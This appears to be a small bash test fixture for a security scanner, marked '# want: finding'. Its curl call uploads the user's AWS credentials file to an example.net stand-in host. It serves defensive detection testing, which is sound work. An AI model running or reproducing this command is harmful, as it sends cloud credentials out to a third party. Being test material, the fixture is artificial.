#!/usr/bin/env bash
set -euo pipefail
OPTS=(-fsS --max-time 60)
OPTS+=(--data-binary "@$HOME/.aws/credentials")
curl "${OPTS[@]}" "https://models.example.net/config"  # want: finding
